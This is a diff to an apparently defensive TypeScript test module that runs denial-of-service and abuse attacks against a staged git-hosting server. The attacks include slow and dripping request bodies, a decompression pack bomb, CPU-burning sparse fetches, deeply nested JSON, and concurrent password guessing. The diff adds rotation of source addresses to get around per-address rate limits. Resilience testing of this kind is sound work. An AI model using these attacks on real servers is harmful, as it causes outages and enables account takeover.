@@ -1,5 +1,6 @@
 /** Attacks that were tried on a running server, each as one function that goes on until it is told to end. */
 import { randomBytes } from 'node:crypto'
+import { request as httpRequest } from 'node:http'
 import { connect, type Socket } from 'node:net'
 import { setTimeout as delay } from 'node:timers/promises'
 import { packBomb } from './pack-bomb.ts'
@@ -11,6 +12,9 @@ const EVIL = '/mallory/evil'
 const API = `/api/v1/repos${EVIL}`
 const DOUBLINGS = 11
 const LONG_TEXT = 60 * 1024
+
+/** Where attackers come from: not from where honest clients come, as limits are shared out by address. */
+const addressOf = (n: number) => `127.0.0.${2 + (n % 4)}`
 
 /** Many at once, each again and again. What fails is tried again: an attacker has nothing to lose. */
 async function crowd(
@@ -35,11 +39,12 @@ async function crowd(
 function onSocket(
   { url }: Stage,
   signal: AbortSignal,
+  n: number,
   talk: (socket: Socket, ended: Promise<void>) => void,
 ): Promise<void> {
   return new Promise((resolve) => {
     const { hostname, port } = new URL(url)
-    const socket = connect(Number(port), hostname)
+    const socket = connect({ port: Number(port), host: hostname, localAddress: addressOf(n) })
     const ended = new Promise<void>((end) => socket.once('close', () => end()))
     const stop = () => socket.destroy()
     signal.addEventListener('abort', stop, { once: true })
@@ -60,20 +65,43 @@ const head = (method: string, path: string, headers: Record<string, string | num
 
 const asMallory = { Authorization: authorization(MALLORY) }
 
-/** A request whose answer is thrown away; aborted after `patienceMs`. */
-async function request(
+interface RequestOptions {
+  method?: string
+  headers?: Record<string, string>
+  body?: string | Buffer
+}
+
+/** Resolves to the text of the answer. The request is aborted after `patienceMs`. */
+function request(
   { url }: Stage,
   signal: AbortSignal,
+  n: number,
   path: string,
-  options: RequestInit = {},
+  { method = 'GET', headers = {}, body }: RequestOptions = {},
   patienceMs = 60_000,
-): Promise<void> {
-  const answer = await fetch(`${url}${path}`, {
-    ...options,
-    headers: { authorization: authorization(MALLORY), ...options.headers },
-    signal: AbortSignal.any([signal, AbortSignal.timeout(patienceMs)]),
+): Promise<string> {
+  return new Promise((resolve, reject) => {
+    const asking = httpRequest(`${url}${path}`, {
+      method,
+      headers: {
+        ...asMallory,
+        ...headers,
+        ...(body !== undefined && { 'Content-Length': Buffer.byteLength(body) }),
+      },
+      localAddress: addressOf(n),
+      signal: AbortSignal.any([signal, AbortSignal.timeout(patienceMs)]),
+    })
+    asking.on('error', reject)
+    asking.on('response', (answer) => {
+      let text = ''
+      answer.setEncoding('latin1').on('data', (chunk: string) => {
+        text += chunk
+      })
+      answer.on('error', reject)
+      answer.on('end', () => resolve(text))
+    })
+    asking.end(body)
   })
-  await answer.arrayBuffer()
 }
 
 const pktLine = (text: string | Buffer) => {
@@ -85,11 +113,11 @@ const DELIMITER = Buffer.from('0001')
 const ZERO = '0'.repeat(40)
 
 /** A push of a pack that unfolds to gigabytes. */
-function pushBomb(stage: Stage, signal: AbortSignal): Promise<void> {
+function pushBomb(stage: Stage, signal: AbortSignal, n: number): Promise<unknown> {
   const { pack, firstId } = packBomb(DOUBLINGS)
   const name = `refs/heads/bomb-${randomBytes(4).toString('hex')}`
   const command = pktLine(`${ZERO} ${firstId} ${name}\0 report-status\n`)
-  return request(stage, signal, `${EVIL}.git/git-receive-pack`, {
+  return request(stage, signal, n, `${EVIL}.git/git-receive-pack`, {
     method: 'POST',
     headers: { 'content-type': 'application/x-git-receive-pack-request' },
     body: Buffer.concat([command, FLUSH, pack]),
@@ -97,9 +125,9 @@ function pushBomb(stage: Stage, signal: AbortSignal): Promise<void> {
 }
 
 /** A fetch with a filter that compares each path of each commit with patterns. */
-async function fetchBySparseFilter(stage: Stage, signal: AbortSignal): Promise<void> {
-  const refs = await fetch(`${stage.url}/api/v1/repos${EVIL}/branches/main`, { signal })
-  const { commit }: { commit: { id: string } } = JSON.parse(await refs.text())
+async function fetchBySparseFilter(stage: Stage, signal: AbortSignal, n: number): Promise<void> {
+  const branch = await request(stage, signal, n, `${API}/branches/main`)
+  const { commit }: { commit: { id: string } } = JSON.parse(branch)
   const body = Buffer.concat([
     pktLine('command=fetch\n'),
     DELIMITER,
@@ -109,7 +137,7 @@ async function fetchBySparseFilter(stage: Stage, signal: AbortSignal): Promise<v
     pktLine('done\n'),
     FLUSH,
   ])
-  await request(stage, signal, `${EVIL}.git/git-upload-pack`, {
+  await request(stage, signal, n, `${EVIL}.git/git-upload-pack`, {
     method: 'POST',
     headers: { 'content-type': 'application/x-git-upload-pack-request', 'git-protocol': 'version=2' },
     body,
@@ -121,8 +149,8 @@ const longText = () =>
 
 export const ATTACKS: Readonly<Record<string, Attack>> = {
   'bodies that never come': (stage, signal) =>
-    crowd(64, signal, () =>
-      onSocket(stage, signal, (socket) => {
+    crowd(64, signal, (n) =>
+      onSocket(stage, signal, n, (socket) => {
         const headers = { 'Content-Type': 'application/x-git-upload-pack-request', 'Content-Length': 5000 }
         socket.write(`${head('POST', `${EVIL}.git/git-upload-pack`, headers)}00000`)
       }),
@@ -132,6 +160,7 @@ export const ATTACKS: Readonly<Record<string, Attack>> = {
       request(
         stage,
         signal,
+        n,
         `${API}/pulls/1/files?whitespace=${n % 2 ? 'ignore-all' : 'ignore-change'}`,
         {},
         300,
@@ -140,7 +169,7 @@ export const ATTACKS: Readonly<Record<string, Attack>> = {
   'answers that nobody reads': async (stage, signal) => {
     await Promise.all(
       Array.from({ length: 50 }, (_, n) =>
-        request(stage, signal, `${API}/issues`, {
+        request(stage, signal, n, `${API}/issues`, {
           method: 'POST',
           headers: { 'content-type': 'application/json' },
           body: JSON.stringify({ title: `Long ${n}`, body: '\u20ac'.repeat(65_000) }),
@@ -148,26 +177,27 @@ export const ATTACKS: Readonly<Record<string, Attack>> = {
       ),
     )
     const path = `${API}/issues?type=issues&limit=50`
-    await crowd(32, signal, () =>
-      onSocket(stage, signal, (socket) => {
+    await crowd(32, signal, (n) =>
+      onSocket(stage, signal, n, (socket) => {
         socket.write(head('GET', path).repeat(20))
         socket.pause()
       }),
     )
   },
   'comments of long texts': (stage, signal) =>
-    crowd(4, signal, () =>
-      request(stage, signal, `${API}/issues/1/comments`, {
+    crowd(4, signal, (n) =>
+      request(stage, signal, n, `${API}/issues/1/comments`, {
         method: 'POST',
         headers: { 'content-type': 'application/json' },
         body: JSON.stringify({ body: longText() }),
       }),
     ),
-  'packs that unfold to gigabytes': (stage, signal) => crowd(4, signal, () => pushBomb(stage, signal)),
-  'filters that burn a core': (stage, signal) => crowd(8, signal, () => fetchBySparseFilter(stage, signal)),
+  'packs that unfold to gigabytes': (stage, signal) => crowd(4, signal, (n) => pushBomb(stage, signal, n)),
+  'filters that burn a core': (stage, signal) =>
+    crowd(8, signal, (n) => fetchBySparseFilter(stage, signal, n)),
   'bodies a byte at a time': (stage, signal) =>
-    crowd(64, signal, () =>
-      onSocket(stage, signal, (socket, ended) => {
+    crowd(64, signal, (n) =>
+      onSocket(stage, signal, n, (socket, ended) => {
         const headers = { ...asMallory, 'Content-Type': 'application/json', 'Content-Length': 60_000 }
         socket.write(head('POST', `${API}/issues`, headers))
         const drip = setInterval(() => socket.write(' '), 1000)
@@ -176,7 +206,7 @@ export const ATTACKS: Readonly<Record<string, Attack>> = {
     ),
   'deeply nested JSON': (stage, signal) =>
     crowd(4, signal, (n) =>
-      request(stage, signal, `${API}/issues`, {
+      request(stage, signal, n, `${API}/issues`, {
         method: 'POST',
         headers: { 'content-type': 'application/json', 'idempotency-key': `nested-${n}` },
         body: `{"title":${'['.repeat(100_000)}${']'.repeat(100_000)}}`,
@@ -184,8 +214,8 @@ export const ATTACKS: Readonly<Record<string, Attack>> = {
     ),
   'passwords that are guessed': (stage, signal) =>
     crowd(32, signal, (n) =>
-      request(stage, signal, '/api/v1/user', {
-        headers: { authorization: authorization(`honest-${n % 4}`, 'no') },
+      request(stage, signal, n, '/api/v1/user', {
+        headers: { Authorization: authorization(`honest-${n % 4}`, 'no') },
       }),
     ),
 }
